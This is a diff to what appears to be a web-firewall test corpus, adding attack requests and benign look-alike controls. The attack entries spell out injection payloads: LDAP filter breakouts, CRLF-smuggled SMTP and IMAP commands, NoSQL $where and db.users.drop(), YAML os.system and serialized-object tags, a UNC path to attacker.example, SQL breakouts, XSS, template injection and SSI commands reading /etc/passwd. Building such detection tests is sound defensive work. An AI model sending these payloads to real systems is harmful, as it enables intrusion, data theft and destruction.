@@ -325,6 +325,49 @@ const XXE_BENIGN: CorpusEntry[] = [
   { category: 'prompt', name: 'prompt about doctypes and XML entities', why: 'Users ask about markup and XXE in words', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why must the HTML5 doctype be the first line, what is an external entity in a DTD, and how do I disable entity resolution in libxml2 (XML_PARSE_NOENT) to prevent XXE?') },
 ];
 
+/**
+ * Injections into other interpreters and shapes the CRS at PL1 leaves open, written from their structure: LDAP
+ * filter syntax, SMTP/IMAP commands after a line break, NoSQL breakouts and server-side JavaScript,
+ * deserialization tags and UNC paths, SQL that closes a parenthesis first, and XSS, SSTI and SSI in the URL path.
+ */
+const OTHER_ATTACKS: CorpusEntry[] = [
+  { category: 'ldap', name: 'wildcard closed then an OR filter', why: 'Turns (uid=INPUT) into a filter that matches every entry', path: '/api/directory/users?uid=*)(uid=*))(|(uid=*' },
+  { category: 'ldap', name: 'OR combinator in a login form', why: 'An always-true branch in the bind filter', method: 'POST', path: '/api/auth/login', headers: form, body: 'username=%28%7C%28cn%3Dadmin%29%28cn%3D%2A%29%29&password=x' },
+  { category: 'ldap', name: 'negated objectClass in JSON', why: 'Closes the attribute and negates an impossible class', method: 'POST', path: '/api/directory/search', headers: bearer, json: { name: 'admin)(!(objectClass=void' } },
+  { category: 'ldap', name: 'extensible match with an OID', why: 'Matches on the password attribute through an extensible match rule', path: '/api/directory/users?filter=userPassword:2.5.13.18:=secret' },
+  { category: 'mail', name: 'RCPT TO after a line break in an address', why: 'Adds a recipient when the value is written to an SMTP session', path: '/api/notify?to=ops@example.com%0D%0ARCPT%20TO:%3Cattacker@evil.example%3E' },
+  { category: 'mail', name: 'tagged IMAP FETCH in a folder name', why: 'A second IMAP command through a proxy that forwards the folder name', method: 'POST', path: '/api/mail/open', headers: form, body: 'folder=INBOX%0D%0AA002%20FETCH%201:*%20(BODY%5B%5D)' },
+  { category: 'mail', name: 'QUIT on a line of its own', why: 'Ends the SMTP session early (probe of mail command injection)', method: 'POST', path: '/api/contact', headers: bearer, json: { subject: 'hello\r\nQUIT\r\n' } },
+  { category: 'nosql', name: 'string breakout into $ne', why: 'Leaves the string and adds an operator to the query object', path: "/api/users?name=admin'%2C%20%24ne%3A%20'x" },
+  { category: 'nosql', name: '$where after a boolean', why: 'Server-side JavaScript in a query built by concatenation', path: "/api/runs?active=true%2C%20%24where%3A%20'sleep(500)'" },
+  { category: 'nosql', name: 'a whole MongoDB shell call', why: 'A value evaluated by a mongo shell or eval()', method: 'POST', path: '/api/admin/query', headers: bearer, json: { query: 'db.users.drop()' } },
+  { category: 'nosql', name: 'separator then a JavaScript timing loop', why: 'Blind $where injection by busy-waiting', path: '/api/items?id=0%3Bvar%20t%3Dnew%20Date()%3Bwhile(new%20Date()-t%3C3000)%7B%7D' },
+  { category: 'nosql', name: 'return true from a $where string', why: "The classic ' ; return true; bypass of a $where check", path: "/api/auth/check?user=x'%3B%20return%20true%3B%20var%20y%3D'" },
+  { category: 'deserialization', name: 'YAML python object tag', why: 'PyYAML full_load runs os.system', method: 'POST', path: '/api/agents/import', headers: form, body: 'config=!!python/object/apply:os.system%20%5B%22id%22%5D' },
+  { category: 'deserialization', name: 'PHP serialized object', why: 'unserialize() instantiates an attacker-chosen class', path: '/api/session?state=O:8:%22stdClass%22:1:%7Bs:4:%22file%22;s:11:%22/etc/passwd%22;%7D' },
+  { category: 'deserialization', name: 'Java serialized stream in base64', why: 'rO0AB is the base64 of a Java serialization header', path: '/api/legacy?token=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC' },
+  { category: 'deserialization', name: 'UNC path to another host', why: 'A Windows server following it authenticates to the attacker (NTLM relay) or loads a remote file', path: '/api/files?path=%5C%5Cattacker.example%5Cshare%5Cx.dll' },
+  { category: 'sqli', name: 'parenthesis breakout with a JSON function', why: 'Closes a bracketed expression and compares a JSON function result', path: '/api/runs?id=123)%20AND%2012%3D12%20AND%20JSON_DEPTH(%27%7B%7D%27)%20!%3D%202521' },
+  { category: 'sqli', name: 'quoted parenthesis breakout in a form', why: "Closes ') and continues with OR", method: 'POST', path: '/api/search', headers: form, body: "q=-1134')%20OR%20JSON_EXTRACT('%7B%7D'%2C%20'%24.a')%20%3D%201%20AND%20('a'%20LIKE%20'a" },
+  { category: 'xss', name: 'javascript: URL in a path segment', why: 'Path segments reflected into links', path: "/api/redirect/javascript:setInterval('ale'+'rt(1)')" },
+  { category: 'xss', name: 'call through Function.prototype in the path', why: 'confirm.call in a reflected path', path: '/api/pages/confirm.call(null,1)' },
+  { category: 'xss', name: 'parenthesized callee', why: '(alert)(1) calls alert without writing alert(', path: '/api/search?q=(alert)(1)' },
+  { category: 'xss', name: 'constructor with a code string', why: 'Function constructor reached through a prototype chain', path: "/api/search?q=__proto__%5Bv-if%5D%3D_c.constructor('alert(1)')()" },
+  { category: 'cmdi', name: 'template arithmetic in the path', why: 'Server-side template injection in a reflected path', path: '/api/greetings/%7B%7B1337*1338%7D%7D' },
+  { category: 'cmdi', name: 'server-side include in the path', why: 'SSI exec reached through a path an SSI-enabled server renders', path: '/api/pages/%3C!--%23exec%20cmd=%22id%22%20--%3E' },
+  { category: 'cmdi', name: 'server-side include in a multipart field', why: 'SSI in a field stored and rendered', method: 'POST', path: '/api/pages', headers: bearer, form: { fields: { footer: '<!--#include virtual="/etc/passwd" -->' } } },
+];
+
+const OTHER_BENIGN: CorpusEntry[] = [
+  { category: 'prompt', name: 'JavaScript with a negated condition', why: 'Code uses (!(a && b)), which looks like an LDAP negation', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Is this right? if (!(user && user.isAdmin)) { return res.status(403); } else if (!(x)) { next(); }') },
+  { category: 'prompt', name: 'question about LDAP filters in words', why: 'Users ask how to write directory queries', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Write an LDAP filter that finds everyone in the Sales OU whose account is not disabled.') },
+  { category: 'write', name: 'multi-line letter with To: and Data lines', why: 'Drafts start lines with To:, Data and Quit in prose', method: 'POST', path: '/api/notes', headers: bearer, json: { body: 'To: the team\nData is attached for Q3.\nQuit worrying about the deadline, we have time.\nThanks' } },
+  { category: 'prompt', name: 'MongoDB question with an operator and a shell call in a sentence', why: 'A developer asks about $gt and db.users.find', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does db.users.find({ age: { $gt: 30 } }) return nothing when ages are stored as strings?') },
+  { category: 'read', name: 'local Windows path in a query', why: 'Drive-letter paths are not UNC shares', path: '/api/files?path=C%3A%5CUsers%5Cana%5Creport.pdf' },
+  { category: 'write', name: 'YAML config without language tags', why: 'Agents are configured in YAML, with the standard !!str tag', method: 'POST', path: '/api/agents/import', headers: bearer, json: { config: 'name: researcher\nmodel: factory-large\nversion: !!str 1.10\ntools:\n  - search\n' } },
+  { category: 'read', name: 'numbered options in a query', why: 'A value that starts with a number and a parenthesis without SQL after it', path: '/api/search?q=1)%20open%20the%20file%202)%20save%20it' },
+];
+
 export const ATTACKS: CorpusEntry[] = [
   // SQL injection
   { category: 'sqli', name: 'guide verification: tautology in a query parameter', why: 'The guide\'s own check: curl "/api/?id=1\' OR \'1\'=\'1" must be 403', path: "/api/?id=1'%20OR%20'1'='1" },
@@ -391,6 +434,7 @@ export const ATTACKS: CorpusEntry[] = [
   ...HOLDOUT_2_ATTACKS,
   ...MATRIX_ATTACKS,
   ...XXE_ATTACKS,
+  ...OTHER_ATTACKS,
 ];
 
 export const BENIGN: CorpusEntry[] = [
@@ -440,4 +484,5 @@ export const BENIGN: CorpusEntry[] = [
   ...HOLDOUT_2_BENIGN,
   ...MATRIX_BENIGN,
   ...XXE_BENIGN,
+  ...OTHER_BENIGN,
 ];
